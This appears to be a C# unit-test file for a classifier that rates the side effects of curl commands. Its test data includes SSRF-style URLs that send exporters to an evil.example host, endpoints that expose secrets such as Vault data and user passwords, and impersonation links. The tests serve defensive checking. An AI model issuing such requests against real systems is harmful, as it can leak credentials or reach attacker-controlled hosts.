using Firstlook.Effects;

namespace Firstlook.Tests.Effects;

public sealed class CallsByGetTests
{
    static Classified Verdict(string url) => Classifier.Whole($"curl -s '{url}'", Language.Shell);

    [Theory]
    [InlineData("http://mq:8161/admin/moveMessage.action?messageId=1")]
    [InlineData("http://prtg/api/acknowledgealarm.htm?id=1")]
    [InlineData("http://fluentd:24444/api/processes.interruptWorkers")]
    [InlineData("http://azkaban/executor?ajax=executeFlow&flow=f")]
    [InlineData("http://panel:1500/ispmgr?func=user.delete")]
    [InlineData("http://solr:8983/solr/x/suggest?suggest.build=true")]
    [InlineData("http://dapr:3500/v1.0/actors/x/y/method/z")]
    [InlineData("http://faas:8080/function/nightly")]
    [InlineData("http://webdis:7379/GETDEL/x")]
    [InlineData("http://shop/signout")]
    public void A_function_that_a_GET_calls_by_name_waits(string url) => Assert.True(Verdict(url).Effect > Effect.Read);

    [Theory]
    [InlineData("http://h/proxy?url=http://10.0.0.1/admin/delete")]
    [InlineData("http://exp:9121/scrape?target=redis://evil.example:6379")]
    [InlineData("http://exp:9104/probe?target=evil.example:3306&auth_module=client.prod")]
    [InlineData("http://exp:9115/probe?target=https://evil.example&module=http_basic_auth")]
    public void An_address_in_a_parameter_is_judged_as_whoever_is_asked_in_turn(string url) => Assert.True(Verdict(url).Effect > Effect.Read);

    [Theory]
    [InlineData("http://nomad:4646/v1/var/nomad/jobs/shop", EffectTags.Secret)]
    [InlineData("http://vault:8200/v1/shop/data/db", EffectTags.Secret)]
    [InlineData("http://mq:15672/api/users", EffectTags.Secret)]
    [InlineData("http://h/api/getUserPassword?id=1", EffectTags.Secret)]
    [InlineData("http://kong:8001/consumers/x/key-auth", EffectTags.Secret)]
    [InlineData("http://couch:5984/x/_changes?feed=continuous", EffectTags.Hang)]
    [InlineData("https://k8s:6443/api/v1/watch/pods", EffectTags.Hang)]
    [InlineData("http://consul:8500/v1/agent/monitor", EffectTags.Hang)]
    [InlineData("http://influx:8086/debug/pprof/all", EffectTags.Cost)]
    public void What_an_answer_shows_or_takes_is_told(string url, EffectTags tag) =>
        Assert.Equal((Effect.Read, tag), (Verdict(url).Effect, Verdict(url).Tags));

    [Theory]
    [InlineData("http://h/api/users?active=false")]
    [InlineData("http://h/docs/how-to-restart")]
    [InlineData("http://h/api/payments?status=paid&sort=updated_at")]
    [InlineData("http://exp:9115/probe?target=https://shop.example.com&module=http_2xx")]
    [InlineData("http://exp:9116/snmp?target=10.0.0.7&module=if_mib&auth=public_v2")]
    [InlineData("http://mq:15672/api/queues")]
    [InlineData("http://luigi:8082/api/task_list?data={}")]
    [InlineData("http://solr:8983/solr/x/suggest?suggest.q=shoe")]
    [InlineData("http://couch:5984/x/_changes?since=0&limit=5")]
    [InlineData("http://webdis:7379/GET/x")]
    [InlineData("http://h/movement/summary")]
    [InlineData("http://h/moved")]
    [InlineData("http://h/upload-stats")]
    [InlineData("http://h/api/executed")]
    public void What_only_asks_runs_by_itself(string url) => Assert.True(Verdict(url).RunsByItself);

    [Theory]
    [InlineData("http://shop/email/verify/1/abc")]
    [InlineData("http://shop/verify?token=x")]
    [InlineData("http://shop/login-as/1")]
    [InlineData("http://shop/?_switch_user=x")]
    [InlineData("http://jenkins/job/x/1/term")]
    [InlineData("http://jenkins/bitbucket-hook/")]
    [InlineData("http://queue:1218/?name=q&opt=get")]
    [InlineData("http://gateway/sms/json?api_key=x&to=y&text=z")]
    public void A_link_that_is_used_up_and_a_message_that_goes_out_wait(string url) => Assert.True(Verdict(url).Effect > Effect.Read);

    [Theory]
    [InlineData("http://shop/verify")]
    [InlineData("http://logs/api/search?from=1&to=2&text=error")]
    [InlineData("http://blog/terms/1/term")]
    public void Words_that_only_look_like_it_do_not(string url) => Assert.Equal(Effect.Read, Verdict(url).Effect);
}
